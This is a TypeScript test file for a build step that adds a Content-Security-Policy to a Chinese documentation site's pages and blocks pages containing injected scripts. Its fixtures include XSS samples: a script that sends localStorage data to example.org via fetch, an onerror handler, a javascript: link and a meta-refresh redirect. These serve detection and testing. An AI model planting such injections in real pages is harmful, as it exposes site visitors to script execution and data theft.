/**
 * The post-build step run as a program on a small built folder: it writes the policy for pages the
 * site wrote, and stops with a Chinese `file: …` message, no stack trace and exit code 1 for pages
 * that carry a script, event handler or javascript: link it did not write.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { sha256 } from '../../src/build/csp.ts';
import { root } from '../site/support/build.ts';

const themeSource = readFileSync(
  fileURLToPath(import.meta.resolve('@astrojs/starlight/components/ThemeProvider.astro')),
  'utf8',
);
const themeScript = /<script is:inline>([\s\S]*?)<\/script>/.exec(themeSource)![1]!;

function page(body: string): string {
  const head = `<meta charset="utf-8"/><title>页</title><script>${themeScript}</script>`;
  return `<!DOCTYPE html><html lang="zh-CN"><head>${head}</head><body>${body}</body></html>`;
}

/** A built folder with the given pages (path → HTML). */
function dist(pages: Record<string, string>): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'atlas-dist-'));
  for (const [rel, html] of Object.entries(pages)) {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), html);
  }
  return dir;
}

function secureDist(dir: string) {
  const r = spawnSync(process.execPath, ['node_modules/tsx/dist/cli.mjs', 'src/build/secure-dist.ts', dir], {
    cwd: root,
    env: { ...process.env, BASE_PATH: '/' },
    encoding: 'utf8',
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

describe('npm run secure-dist', () => {
  it('writes the policy into a page the site wrote, with its inline script allowed by hash', () => {
    const dir = dist({
      'index.html': page('<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1>'),
      'a/index.html': page('<p>甲</p>'),
    });
    const run = secureDist(dir);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const html = readFileSync(path.join(dir, 'index.html'), 'utf8');
    expect(html).toContain('<head><meta charset="utf-8"/><meta http-equiv="Content-Security-Policy" content="');
    expect(html).toMatch(/content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-[^']+';/);
    expect(html).toContain(sha256(themeScript));
    expect(readFileSync(path.join(dir, '_headers'), 'utf8')).toContain(
      `script-src 'self' 'wasm-unsafe-eval' ${sha256(themeScript)};`,
    );
    // Run again on its own output: the policy is replaced, not added twice.
    expect(secureDist(dir).code).toBe(0);
    expect(readFileSync(path.join(dir, 'index.html'), 'utf8')).toBe(html);
  });

  it('refuses pages with an unknown inline script, an event handler and a javascript: link', () => {
    const injected = {
      'index.html': page('<p>甲</p>'),
      'documents/x/index.html': page('<p>乙</p><script>fetch("https://example.org/?"+localStorage.length)</script>'),
      'departments/d-x/index.html': page('<img src=x onerror="alert(1)"><a href="javascript:alert(2)">市局</a>'),
      'targets/index.html': page('').replace(
        '<title>',
        '<meta http-equiv="refresh" content="0;url=https://example.org/"><title>',
      ),
    };
    const dir = dist(injected);
    const run = secureDist(dir);
    expect(run.code).toBe(1);
    const shown = path.relative(root, dir);
    expect(run.stderr.split('\n')).toEqual([
      '构建已停止：3 个页面含有本站没有写过的脚本或跳转，内容安全策略不会放行它们。',
      `${path.join(shown, 'departments/d-x/index.html')}: 事件处理属性（on…）：<img onerror>`,
      `${path.join(shown, 'departments/d-x/index.html')}: javascript: 链接：<a href="javascript:alert(2)">`,
      `${path.join(shown, 'documents/x/index.html')}: 未知的内联脚本（不是 Starlight、Astro 或本站写的）：` +
        'fetch("https://example.org/?"+localStorage.length)',
      `${path.join(shown, 'targets/index.html')}: 会让页面跳转或改写设置的 <meta http-equiv>：` +
        '<meta http-equiv="refresh" content="0;url=https://example.org/">',
      '这通常说明政策原文中的文字被当作代码写进了页面：请找出写出这段文字的组件，改为按文本输出（不要用 set:html）。',
      '',
    ]);
    expect(run.stderr).not.toMatch(/^\s+at /m);
    // Nothing is approved: no policy written, pages untouched.
    expect(existsSync(path.join(dir, '_headers'))).toBe(false);
    expect(readFileSync(path.join(dir, 'index.html'), 'utf8')).toBe(injected['index.html']);
  });

  it('keeps terminal control characters found in a page out of its message', () => {
    const dir = dist({ 'index.html': page('<script>alert(1)\u001b[2J</script>') });
    const run = secureDist(dir);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('：alert(1)[2J\n');
    expect(run.stderr).not.toContain('\u001b');
  });
});
